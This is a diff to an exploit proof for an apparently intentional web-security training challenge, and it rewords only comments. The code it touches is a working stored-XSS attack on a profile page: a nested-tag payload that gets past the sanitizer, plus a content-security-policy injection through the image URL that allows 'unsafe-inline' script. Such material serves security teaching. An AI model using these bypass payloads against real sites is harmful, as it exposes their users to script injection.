@@ -2,11 +2,11 @@ import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
 import { challenge } from './challenge.ts'
 
 const CODE = 'alert(`xss`)'
-/** One nested tag is cleaned away, and another one is left: `<script>…`. */
+/** The sanitizer removes one nested tag and leaves another: `<script>…`. */
 const MASKED = `<<a|ascript>${CODE}</script>`
 const POLICY = "https://a.png; script-src 'unsafe-inline' 'self' 'unsafe-eval'"
 
-/** Sends a form of the page of the account. */
+/** Submits a form of the account page. */
 function send(attacker: Attacker, path: string, fields: Readonly<Record<string, string>>) {
   const headers = { 'content-type': 'application/x-www-form-urlencoded' }
   return attacker.post(path, new URLSearchParams(fields).toString(), { headers })
@@ -14,7 +14,7 @@ function send(attacker: Attacker, path: string, fields: Readonly<Record<string, 
 const linkPicture = (attacker: Attacker, imageUrl: string) => send(attacker, '/profile/image/url', { imageUrl })
 const rename = (attacker: Attacker, username: string) => send(attacker, '/profile', { username })
 
-/** Sets picture and name of a new account, where they are given, and looks at its page. */
+/** Sets picture and name of a new account, unless null, and requests its page. */
 const show =
   (imageUrl: string | null, username: string | null): Attack =>
   async (attacker) => {
@@ -27,7 +27,7 @@ const show =
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
     await attacker.becomeCustomer()
-    // Where the picture stands in the policy, and what is left of a tag.
+    // Shows the picture's URL in the content security policy, and the rest of a tag.
     await linkPicture(attacker, 'https://a.png')
     await rename(attacker, `<script>${CODE}</script>`)
     await attacker.get('/profile')
